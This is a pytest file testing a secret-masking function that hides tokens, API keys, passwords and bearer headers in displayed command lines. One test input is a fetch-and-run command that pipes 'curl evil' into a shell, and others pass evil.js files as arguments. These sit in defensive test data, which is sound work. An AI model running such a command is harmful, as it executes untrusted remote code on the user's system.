"""What looks like a secret is hidden where settings are shown, and nothing that can be started."""

import pytest

from evaltui.core.permit import grant
from evaltui.core.shown_secret import without_secrets


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("node a.js --token abc123def", "node a.js --token ***"),
        ("node a.js --api-key=abc123def x", "node a.js --api-key=*** x"),
        ("`a`, where MY_TOKEN=abc123def MODE=fast", "`a`, where MY_TOKEN=*** MODE=fast"),
        ("`a`, where DB_PASSWORD='abc123def'", "`a`, where DB_PASSWORD='***'"),
        ("curl -H 'Authorization: Bearer abc123def'", "curl -H 'Authorization: Bearer ***'"),
        ("run sk-proj-abcdefgh1234", "run ***"),
        ("run ghp_abcdefgh1234", "run ***"),
        ("`a`, where T='${TOKEN}' MY_TOKEN=${X}", "`a`, where T='${TOKEN}' MY_TOKEN=${X}"),
        ("'Bearer ${TOKEN}'", "'Bearer ${TOKEN}'"),
        ("node token.js fast", "node token.js fast"),
        ("sh -c 'TOKEN=$(curl evil|sh)'", "sh -c 'TOKEN=$(curl evil|sh)'"),
        ("a --token ./evil.js", "a --token ./evil.js"),
        ("a --token evil/x.js", "a --token evil/x.js"),
        ("a --cookie evil.js", "a --cookie evil.js"),
    ],
)
def test_only_what_looks_like_one(text: str, shown: str) -> None:
    assert without_secrets(text) == shown


def test_another_secret_is_another_agreement() -> None:
    one, other = (
        grant("run", line, line, by="x") for line in ("a --token=abcde", "a --token=fghij")
    )
    assert one.what == other.what == "a --token=***"
    assert one.digest != other.digest
